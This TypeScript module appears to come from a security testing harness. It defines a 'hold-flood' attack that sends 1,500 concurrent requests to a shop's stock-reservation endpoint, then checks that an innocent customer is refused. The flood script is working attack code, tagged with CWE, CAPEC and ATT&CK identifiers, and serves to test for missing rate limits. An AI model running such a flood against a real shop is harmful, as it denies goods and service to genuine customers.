import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** More than the shop has, and how many are asked for at a time. */
const requests = 1_500
const atOnce = 24

/** Holds everything at the counter, so that nothing is left for others. */
export const holdFlood: Attack = defineAttack({
  id: 'hold-flood',
  class: 'flood',
  title: 'Reserves everything there is by a flood of requests',
  cwe: 799,
  capec: 125,
  technique: 'T1499.003',
  preconditions: [],
  slow: true,
  steps: async ({ visitor, bystander }) => {
    let left = requests
    const flood = async (): Promise<void> => {
      while (left > 0) {
        left -= 1
        await visitor.form('/stock/hold', { product: '5' })
      }
    }
    await Promise.all(Array.from({ length: atOnce }, flood))
    return bystander().form('/stock/hold', { product: '5' })
  },
  // What somebody innocent meets, which does not depend on how busy the machine is.
  oracle: (answer) => answer.status === 409,
  twin: ({ visitor }) => visitor.form('/stock/hold', { product: '5' }),
})
